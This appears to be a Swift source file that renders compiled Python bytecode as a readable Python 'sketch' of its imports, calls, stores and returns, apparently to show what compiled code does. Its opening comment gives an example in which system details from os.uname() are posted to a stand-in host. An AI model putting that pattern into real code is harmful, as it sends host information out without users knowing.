// A sketch is Python that imports, calls and stores what compiled code does, block by block and in its order. It is no
// decompiled program: tests, loops and arithmetic are gone, and every call has a name for its result, so that what flows
// where stays visible. It is made to be read, by people and by what reads Python, and never to be run.
//
//     import os
//     def run(self):
//         v0 = os.uname()
//         v1 = requests.post("http://host.example.invalid/", json={"host": v0})

/// Python text that names what compiled code does.
public enum BytecodeSketch {
  /// The text of a program.
  ///
  /// - Parameter ceiling: bytes, about; what is beyond is left out, and a last comment says so.
  public static func text(of program: BytecodeProgram, ceiling: Int = 8 << 20) -> [UInt8] {
    var writer = SketchWriter(program, ceiling: ceiling)
    writer.run()
    return writer.bytes
  }
}

private struct SketchWriter {
  private let program: BytecodeProgram
  private let ceiling: Int
  private(set) var bytes: [UInt8] = []
  /// Calls, imports, stores and inner blocks of each block, by place.
  private var calls: [[Int]]
  private var imports: [[Int]]
  private var stores: [[Int]]
  private var inner: [[Int]]
  private var texts: [[Int]]
  private var returns: [[Int]]
  private var classes: [Int: Int] = [:]
  private var spelling = SketchSpelling()
  /// Names of arguments and imports, which are texts among the constants.
  private var names: Set<String> = []

  /// Blocks inside blocks that are written inside; deeper ones follow at this level.
  private static let depthCeiling = 20

  init(_ program: BytecodeProgram, ceiling: Int) {
    self.program = program
    self.ceiling = ceiling
    let count = program.blocks.count
    calls = [[Int]](repeating: [], count: count)
    imports = calls
    stores = calls
    inner = calls
    texts = calls
    returns = calls
    for (index, text) in program.texts.enumerated() where !text.isDocstring { texts[text.block].append(index) }
    for (index, call) in program.calls.enumerated() { calls[call.block].append(index) }
    for (index, statement) in program.imports.enumerated() where !statement.isDynamic {
      imports[statement.block].append(index)
    }
    for (index, store) in program.stores.enumerated() { stores[store.block].append(index) }
    for (index, made) in program.returns.enumerated() { returns[made.block].append(index) }
    for (index, block) in program.blocks.enumerated() {
      if let parent = block.parent { inner[parent].append(index) }
    }
    for call in program.calls { for keyword in call.keywords { names.insert(keyword.name) } }
    for statement in program.imports { names.formUnion(statement.names) }
    for (index, made) in program.classes.enumerated() { if let body = made.body { classes[body] = index } }
    for block in program.blocks.indices {
      let made = program.blocks[block]
      let isNamed = made.kind == .function || made.kind == .classBody
      spelling.blockNames.append(isNamed ? spelling.dotted(made.qualifiedName) : functionName(block))
    }
  }

  mutating func run() {
    writeRoots()
    var waiting: [(block: Int, depth: Int)] = [(0, 0)]
    // Inner blocks go in front of what else a block does, as they would have to.
    while let (block, depth) = waiting.popLast() {
      guard bytes.count < ceiling else {
        line(0, "# more was left out")
        return
      }
      if block < 0 {
        writeBody(-block - 1, depth)
        continue
      }
      writeHead(block, depth)
      let inside = block == 0 ? 0 : min(depth + 1, Self.depthCeiling)
      writeImports(block, inside)
      waiting.append((-block - 1, inside))
      for each in inner[block].reversed() { waiting.append((each, inside)) }
    }
  }

  /// Modules whose names the sketch uses: qualified names need no import of their own in compiled code.
  private mutating func writeRoots() {
    var roots: Set<String> = []
    for statement in program.imports where statement.level == 0 && !statement.module.isEmpty {
      roots.insert(statement.module)
    }
    for root in roots.sorted() where SketchSpelling.isDotted(root) { line(0, "import \(root)") }
  }

  // MARK: Blocks

  private mutating func writeHead(_ block: Int, _ depth: Int) {
    let made = program.blocks[block]
    switch made.kind {
    case .module: return
    case .classBody:
      let known = classes[block].map { program.classes[$0] }
      let bases = (known?.bases ?? []).map { $0.map { spelling.dotted($0) } ?? "_" }
      line(
        depth,
        "class \(SketchSpelling.identifier(made.name))\(bases.isEmpty ? "" : "(\(bases.joined(separator: ", ")))"):")
    case .function, .lambda, .comprehension, .unused:
      line(depth, "def \(functionName(block))(\(parameters(of: made).joined(separator: ", "))):")
    }
    line(depth + 1, "pass")
  }

  /// Lambdas and comprehensions have no names of their own.
  private func functionName(_ block: Int) -> String {
    let made = program.blocks[block]
    return made.kind == .function ? SketchSpelling.identifier(made.name) : "_\(made.kind.rawValue)_\(block)"
  }

  private func parameters(of block: BytecodeBlock) -> [String] {
    let code = program.tree.codes[block.code]
    var parameters: [String] = []
    let counts = [Int(code.argumentCount), Int(code.keywordOnlyCount)].map { max(0, min($0, 255)) }
    for index in 0..<(counts[0] + counts[1]) {
      guard let child = program.tree.child(code.localNames, at: index) else { break }
      if index == counts[0] { parameters.append("*") }
      var name = program.tree.text(child).map { SketchSpelling.identifier($0) } ?? "_\(index)"
      while parameters.contains(name) { name += "_" }
      parameters.append(name)
    }
    if code.takesArguments {
      if let star = parameters.firstIndex(of: "*") { parameters[star] = "*_args" } else { parameters.append("*_args") }
    }
    if code.takesKeywords { parameters.append("**_kwargs") }
    return parameters
  }

  private mutating func writeImports(_ block: Int, _ depth: Int) {
    for index in imports[block] {
      let statement = program.imports[index]
      let dots = String(repeating: ".", count: min(statement.level, 32))
      if statement.names.isEmpty {
        if statement.level == 0, block != 0, SketchSpelling.isDotted(statement.module) {
          line(depth, "import \(statement.module)")
        }
        continue
      }
      guard statement.module.isEmpty || SketchSpelling.isDotted(statement.module) else { continue }
      let names = statement.names.filter { $0 == "*" || SketchSpelling.isIdentifier($0) }
      guard !names.isEmpty else { continue }
      line(depth, "from \(dots)\(statement.module) import \(names.joined(separator: ", "))")
      // What is used is named by its path, which such an import does not bind.
      if statement.level > 0, let first = statement.module.split(separator: ".").first {
        line(depth, "from \(dots) import \(first)")
      }
    }
  }

  private mutating func writeBody(_ block: Int, _ depth: Int) {
    spelling.results = [:]
    var later: [Int] = []
    for index in stores[block] {
      if case .constant = program.stores[index].value { writeStore(index, depth) } else { later.append(index) }
    }
    for index in calls[block] {
      guard bytes.count < ceiling else { break }
      line(depth, "v\(index) = " + text(of: program.calls[index]))
      if let name = program.calls[index].qualifiedName { spelling.results[name] = index }
    }
    for index in later { writeStore(index, depth) }
    for index in texts[block] where !spelling.shownTexts.contains(program.texts[index].value) {
      guard bytes.count < ceiling else { break }
      if case .text(let text) = program.texts[index].value, names.contains(text) { continue }
      line(depth, "_ = " + spelling.spelled(program.texts[index].value))
    }
    writeReturn(block, depth)
  }

  /// Tests are gone, so that a function gives one of all that it may give.
  private mutating func writeReturn(_ block: Int, _ depth: Int) {
    var values: [String] = []
    for index in returns[block].prefix(8) {
      let value = spelling.text(of: program.returns[index].value)
      if !values.contains(value) { values.append(value) }
    }
    if !values.isEmpty { line(depth, "return " + values.joined(separator: " or ")) }
  }

  private mutating func writeStore(_ index: Int, _ depth: Int) {
    let store = program.stores[index]
    guard let value = store.value, value != .unknown, SketchSpelling.isDotted(store.qualifiedName) else { return }
    if store.qualifiedName.hasPrefix("__") && store.qualifiedName.hasSuffix("__") { return }
    switch value {
    // The name of an import, or of a function or class that stands there already.
    case .name(let name) where name == store.qualifiedName || name.hasSuffix(".\(store.qualifiedName)"): return
    case .block(let block) where program.blocks[block].name == store.qualifiedName: return
    default: break
    }
    line(depth, "\(store.qualifiedName) = \(spelling.text(of: value))")
  }

  // MARK: Calls

  private mutating func text(of call: BytecodeCall) -> String {
    var parts = call.arguments.map { spelling.text(of: $0) }
    if call.isOpen { parts.append("*_") }
    for keyword in call.keywords where SketchSpelling.isIdentifier(keyword.name) {
      parts.append("\(keyword.name)=\(spelling.text(of: keyword.value))")
    }
    return "\(callee(of: call))(\(parts.joined(separator: ", ")))"
  }

  private mutating func callee(of call: BytecodeCall) -> String {
    if let target = call.target { return spelling.text(of: .block(target)) }
    guard let name = call.qualifiedName else { return "_" }
    let method = name.split(separator: ".").last.map(String.init) ?? ""
    switch call.receiver {
    case .call(let index) where SketchSpelling.isIdentifier(method): return "v\(index).\(method)"
    case .constant(let constant) where SketchSpelling.isIdentifier(method):
      return "\(spelling.spelled(constant)).\(method)"
    default: return spelling.dotted(name)
    }
  }

  private mutating func line(_ depth: Int, _ text: String) {
    bytes += String(repeating: "    ", count: depth).utf8
    bytes += text.utf8
    bytes.append(0x0A)
  }
}
